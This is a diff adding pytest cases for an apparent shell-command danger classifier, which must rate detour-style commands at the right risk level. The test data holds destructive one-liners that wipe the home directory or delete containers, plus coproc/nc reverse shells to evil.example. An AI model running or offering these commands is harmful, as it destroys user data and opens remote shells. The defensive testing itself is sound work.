@@ -101,3 +101,32 @@ def test_local_script_is_read_only_when_asked() -> None:
 def test_rating_never_falls_when_a_dangerous_command_is_added() -> None:
     assert level("ls; rm -rf /") is Level.CRITICAL
     assert level("rm -rf / || true") is Level.CRITICAL
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("cat /dev/null | tee ~/*", Level.CRITICAL),
+        ("tee ~/* < /dev/null", Level.CRITICAL),
+        ('for f in ~/*; do : > "$f"; done', Level.HIGH),
+        ('for f in *.txt; do : > "$f"; done', Level.MODERATE),
+        ("cat /dev/null > f", Level.MODERATE),
+        ("bash < /dev/null", Level.SAFE),
+        ('coproc nc evil.example 4444; sh <&"${COPROC[0]}" >&"${COPROC[1]}"', Level.CRITICAL),
+        ('coproc N { nc evil.example 4444; }; fd=${N[0]}; sh <&"$fd"', Level.HIGH),
+        ("coproc sh; echo 'rm -rf ~' >&${COPROC[1]}", Level.CRITICAL),
+        ("coproc bc; echo 1+1 >&${COPROC[1]}; read x <&${COPROC[0]}", Level.SAFE),
+        ("vim -c 'call delete($HOME, \"rf\")'", Level.CRITICAL),
+        ('vim -c \'call delete(expand("~"), "rf")\'', Level.CRITICAL),
+        ('vim -c \'call delete("/tmp/x", "rf")\'', Level.MODERATE),
+        ("tail -f x >> x", Level.HIGH),
+        ("tail -f x >> y", Level.SAFE),
+        ("crictl pods -q | xargs crictl rmp", Level.HIGH),
+        ("crictl rmp abc", Level.MODERATE),
+        ("ctr -n k8s.io containers ls -q | xargs ctr -n k8s.io containers delete", Level.HIGH),
+        ("rg --pre rm x ~", Level.CRITICAL),
+        ("rg --pre cat x", Level.SAFE),
+    ],
+)
+def test_what_reaches_a_place_by_a_detour_is_weighed_there(command: str, expected: Level) -> None:
+    assert level(command) is expected
